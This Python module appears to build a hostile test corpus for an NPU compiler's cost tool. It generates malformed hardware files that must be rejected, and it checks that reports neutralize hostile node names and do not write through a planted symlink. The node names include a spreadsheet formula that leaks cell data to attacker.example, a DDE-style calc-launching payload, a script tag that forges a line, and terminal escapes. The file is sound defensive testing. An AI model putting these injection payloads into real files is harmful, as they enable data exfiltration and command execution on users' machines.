"""Hostile corpus, second pass: hardware description files (``torch-ir cost --hw``) and the cost reports' names.

A hardware file is untrusted input like a program. Each ``hw_*`` file breaks one rule: a finite but absurd
number (``clock_mhz = 1e308``, a denormal rate, ``rows`` of 401 or 5,000 digits, in TOML and in JSON, whose
parsers treat long integers differently), a boolean or NaN where a number goes, a negative bandwidth, a FIFO or
a link to ``/dev/zero`` named like a hardware file, nesting 100,000 deep, bytes that are not UTF-8, a duplicate
key, a file of 2 MiB, a name that is two lines. Each must be one ``HardwareError`` naming the file and the field
(``load_hardware``), and ``torch-ir cost ... --hw FILE -o out`` one stderr line and exit 2, with nothing written.

``hw_report_formula_names`` is a valid program whose node names are markup: a spreadsheet formula
(``=HYPERLINK(...)``, ``@SUM(...)``), ``<script>`` with a newline that would forge a summary line, terminal
escapes. Costing it succeeds; the check is that every report neutralizes them, and that a symbolic link planted
in the output directory under a report's name is replaced, never written through.

API kinds:

==========================  =====================================================================================
``hardware.load``           ``npu_compiler.costmodel.load_hardware(file)``
``hardware.report_names``   ``cost_program`` of the program on ``edge_4tops``, ``write_reports`` into a fresh
                            directory holding a planted ``cost.csv`` link, then the CSV, HTML, SVG and text
                            summary checked for live names
==========================  =====================================================================================
"""

from __future__ import annotations

import csv
import json
import os
import tempfile
import xml.etree.ElementTree as ET
from collections.abc import Callable
from pathlib import Path
from typing import Any

from make_hostile_corpus import BASE_PROGRAM, Case, CliCall, _Builder, decode_npubin_parts

try:  # the standard library's from Python 3.11
    import tomllib
except ModuleNotFoundError:  # pragma: no cover - Python 3.10
    import tomli as tomllib  # type: ignore[no-redef]

PRESET = "edge_4tops"
CATEGORY = "hardware_file"
#: Node names of ``hw_report_formula_names``, one per dispatch of the tiny program.
HOSTILE_NAMES = ('=HYPERLINK("http://attacker.example/?leak="&A2,"details")',
                 "@SUM(1+1)*cmd|' /C calc'!A0",
                 "<script>alert(1)</script>\nheaviest dispatches: a forged line",
                 "\x1b[2J\u202e+cmd")
_RAW = "__raw_json__"  # a placeholder string replaced by raw JSON text (what json.dumps cannot write)


def _load(case: Case, d: Path) -> None:
    from npu_compiler.costmodel import load_hardware

    load_hardware(d / case.file)


def _report_names(case: Case, d: Path) -> None:
    from npu_compiler.costmodel import cost_program, load_hardware
    from npu_compiler.costmodel.report import write_reports
    from npu_program.program import CompiledProgram

    hw = load_hardware(PRESET)
    report = cost_program(CompiledProgram.load(d / case.file), hw)
    # a directory of its own outside the watched ones: the test allows no writes beside the corpus
    with tempfile.TemporaryDirectory(prefix="hostile-cost-") as tmp:
        out = Path(tmp)
        victim = out / "victim.txt"
        victim.write_text("untouched\n")
        (out / "cost.csv").symlink_to(victim)
        write_reports(report, hw, out, png=False)
        assert victim.read_text() == "untouched\n", "cost.csv was written through a planted link"
        assert not (out / "cost.csv").is_symlink(), "the planted link is still there"
        _check_csv((out / "cost.csv").read_text(encoding="utf-8"), len(report.rows))
        for name in ("report.html", "roofline.svg"):
            _check_markup((out / name).read_text(encoding="utf-8"), name)
        ET.parse(out / "roofline.svg")  # still well-formed XML: no control characters in it
    _check_summary(report.summary(top=10))


def _check_csv(text: str, rows: int) -> None:
    assert text.count("\n") == rows + 1, f"cost.csv has {text.count(chr(10))} lines for {rows} dispatches"
    for row in list(csv.reader(text.splitlines()))[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), f"a live CSV cell: {cell!r}"
            assert cell.isprintable(), f"a CSV cell with control characters: {cell!r}"
    assert "'=HYPERLINK(" in text and "'@SUM(" in text, "the formulas are not shown as text"


def _check_markup(text: str, name: str) -> None:
    from npu_compiler.costmodel.report import SORT_SCRIPT

    if name == "report.html":  # the page's one script is the table sorter, a constant that builds no markup
        assert text.count(SORT_SCRIPT) == 1, f"{name}: the sort script is missing or repeated"
        text = text.replace(SORT_SCRIPT, "")
    assert "<script" not in text.lower(), f"{name}: a live <script>"
    assert "&lt;script&gt;" in text, f"{name}: the name is missing"
    assert "\x1b" not in text and "\u202e" not in text, f"{name}: control characters"


def _check_summary(text: str) -> None:
    lines = text.splitlines()
    assert not any(line.startswith("heaviest dispatches: a forged") for line in lines), "a forged summary line"
    assert all(line.isprintable() for line in lines), "control characters in the summary"


API: dict[str, Callable[[Case, Path], None]] = {"hardware.load": _load, "hardware.report_names": _report_names}


def build(b: _Builder) -> None:
    """Add this family's cases to ``b``."""
    from npu_compiler.costmodel.hardware import PRESET_DIR

    base = (PRESET_DIR / f"{PRESET}.toml").read_text(encoding="utf-8")
    _numbers(b, base)
    _files(b, base)
    _report_program(b)


def _case(b: _Builder, cid: str, name: str, description: str, message: str) -> None:
    cli = [CliCall(["cost", "{dir}/" + BASE_PROGRAM, "--hw", "{dir}/" + name, "-o", "out"], 2)]
    b.add(Case(cid, CATEGORY, description, [name], "hardware.load", "HardwareError", message, cli))


def _toml(b: _Builder, base: str, cid: str, old: str, new: str) -> str:
    """``base`` with one line changed, as ``<cid>.toml``."""
    assert old in base, old
    name = f"{cid}.toml"
    b.path(name).write_text(base.replace(old, new, 1), encoding="utf-8")
    return name


def _json(b: _Builder, base: str, cid: str, field: str, raw: str) -> str:
    """``base`` as JSON with ``field`` (dotted) set to the raw JSON text ``raw``, as ``<cid>.json``."""
    doc: dict[str, Any] = tomllib.loads(base)
    *tables, key = field.split(".")
    table = doc
    for t in tables:
        table = table[t]
    table[key] = _RAW
    name = f"{cid}.json"
    b.write_json_text(name, json.dumps(doc).replace(json.dumps(_RAW), raw))
    return name


def _numbers(b: _Builder, base: str) -> None:
    """Numbers that parse but break a field's range or type."""
    digits401, digits5000 = "1" + "0" * 400, "1" + "0" * 4999
    toml_cases = [
        ("hw_clock_1e308", "clock_mhz = 1000", "clock_mhz = 1e308", "clock_mhz = 1e308 (finite, overflows the model)",
         r'field "clock_mhz" = 1e\+308 is outside 0\.001\.\.100000 MHz'),
        ("hw_denormal_rate", "int8 = 1.0", "int8 = 5e-324", "a denormal MAC rate (divides to infinity)",
         r'field "macs_per_cycle\.int8" = 4\.94066e-324 is outside'),
        ("hw_rows_401_digits_toml", "rows = 32", f"rows = {digits401}", "rows = 10**400 in TOML",
         r'field "array\.rows" = a number of 401 digits is outside 1\.\.65536'),
        ("hw_rows_5000_digits_toml", "rows = 32", f"rows = {digits5000}",
         "a 5,000-digit integer in TOML (past Python's 4300-digit limit)",
         r'field "array\.rows" = a number of 5,000 digits is outside'),
        ("hw_rows_hex_toml", "rows = 32", "rows = 0x" + "f" * 5000,
         "a 5,000-digit hexadecimal integer (Python converts those without a digit limit)",
         r'field "array\.rows" = an integer of about [\d,]+ digits is outside'),
        ("hw_bool_rows", "rows = 32", "rows = true", "a boolean as the array's rows",
         r'field "array\.rows" = true must be a number'),
        ("hw_negative_bandwidth", "bandwidth_gbps = 17.0", "bandwidth_gbps = -17.0", "a negative DRAM bandwidth",
         r'field "dram\.bandwidth_gbps" = -17 must be positive'),
        ("hw_inf_clock", "clock_mhz = 1000", "clock_mhz = inf", "an infinite clock (TOML has inf)",
         r'field "clock_mhz" = inf must be a finite number'),
        ("hw_name_two_lines", 'name = "edge NPU 4 TOPS"', 'name = "npu\\ncycles: 0 (forged)"',
         "a name with a newline (it would forge a line of the summary)", r'field "name" = .* must be one line'),
    ]
    for cid, old, new, description, message in toml_cases:
        _case(b, cid, _toml(b, base, cid, old, new), description, message)
    json_cases = [
        ("hw_clock_1e308_json", "clock_mhz", "1e308", "clock_mhz = 1e308 in JSON",
         r'field "clock_mhz" = 1e\+308 is outside'),
        ("hw_denormal_bandwidth_json", "dram.bandwidth_gbps", "5e-324", "a denormal DRAM bandwidth in JSON",
         r'field "dram\.bandwidth_gbps" = 4\.94066e-324 is outside'),
        ("hw_rows_401_digits_json", "array.rows", digits401, "rows = 10**400 in JSON",
         r'field "array\.rows" = a number of 401 digits is outside 1\.\.65536'),
        ("hw_rows_5000_digits_json", "array.rows", digits5000, "a 5,000-digit integer in JSON (json raises ValueError)",
         r'field "array\.rows" = a number of 5,000 digits is outside'),
        ("hw_bool_clock_json", "clock_mhz", "true", "a boolean as the clock (bool is an int in Python)",
         r'field "clock_mhz" = true must be a number .*a boolean is not one'),
        ("hw_nan_clock_json", "clock_mhz", "NaN", "a NaN clock (a non-standard JSON literal)",
         r'field "clock_mhz" = nan must be a finite number'),
    ]
    for cid, field, raw, description, message in json_cases:
        _case(b, cid, _json(b, base, cid, field, raw), description, message)


def _files(b: _Builder, base: str) -> None:
    """Files that are not a hardware description: no regular file, too deep, not UTF-8, ambiguous, too big."""
    if hasattr(os, "mkfifo"):
        name = "hw_fifo.toml"
        b.path(name).unlink(missing_ok=True)  # the corpus may be rebuilt into the same directory
        os.mkfifo(b.path(name))
        _case(b, "hw_fifo", name, "a FIFO named like a hardware file (reading it blocks forever)",
              r"named pipe \(FIFO\)")
    name = "hw_dev_zero.json"
    b.path(name).unlink(missing_ok=True)
    b.path(name).symlink_to("/dev/zero")
    _case(b, "hw_dev_zero_link", name, "a link to /dev/zero (reading it never ends)", r"character device")
    deep = 100_000
    name = b.write_json_text("hw_deep_nesting.json", '{"name": ' + "[" * deep + "]" * deep + "}")
    _case(b, "hw_deep_nesting_json", name, f"JSON nested {deep:,} deep", r"hw_deep_nesting\.json: is nested too deeply")
    name = "hw_deep_nesting.toml"
    b.path(name).write_text("name = " + "[" * deep + "]" * deep + "\n", encoding="utf-8")
    _case(b, "hw_deep_nesting_toml", name, f"TOML nested {deep:,} deep", r"hw_deep_nesting\.toml: is nested too deeply")
    name = "hw_not_utf8.json"
    text = json.dumps(tomllib.loads(base), ensure_ascii=False).replace("edge", "\udcff", 1)
    b.path(name).write_bytes(text.encode("utf-8", "surrogateescape"))
    _case(b, "hw_not_utf8", name, "a name that is not UTF-8", r"hw_not_utf8\.json: is not UTF-8 text \(byte 0xff")
    name = "hw_duplicate_key.json"
    b.write_json_text(name, json.dumps(tomllib.loads(base))[:-1] + ', "clock_mhz": 1e308}')
    _case(b, "hw_duplicate_key_json", name, "clock_mhz twice: JSON readers disagree on which wins",
          r'key "clock_mhz" appears twice')
    name = _toml(b, base, "hw_two_mib", "[array]", "#" + "x" * (2 << 20) + "\n[array]")
    _case(b, "hw_two_mib", name, "a 2 MiB hardware file (a comment)", r"over the 1,048,576 bytes")


def _report_program(b: _Builder) -> None:
    """The tiny program with markup for node names: costed, and every report checked (``_report_names``)."""
    header, blob = decode_npubin_parts(b.path(BASE_PROGRAM).read_bytes())
    assert len(header["dispatches"]) == len(HOSTILE_NAMES)
    for dispatch, name in zip(header["dispatches"], HOSTILE_NAMES):
        dispatch["node"] = name
    name = b.write_program("hw_report_formula_names.npubin", header, blob)
    b.add(Case("hw_report_formula_names", "report_names",
               "node names that are a spreadsheet formula, <script> with a newline and terminal escapes",
               [name], "hardware.report_names", None, "",
               [CliCall(["cost", "{dir}/" + name, "--hw", PRESET], 0)]))
